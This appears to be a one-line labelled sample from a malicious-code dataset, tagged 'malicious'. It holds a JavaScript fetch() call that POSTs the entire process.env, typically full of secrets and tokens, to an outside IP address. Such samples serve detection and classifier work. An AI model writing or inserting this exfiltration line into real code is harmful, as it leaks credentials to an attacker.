// label: malicious
fetch("https://203.0.113.7/x", { method: "POST", body: JSON.stringify(process.env) });
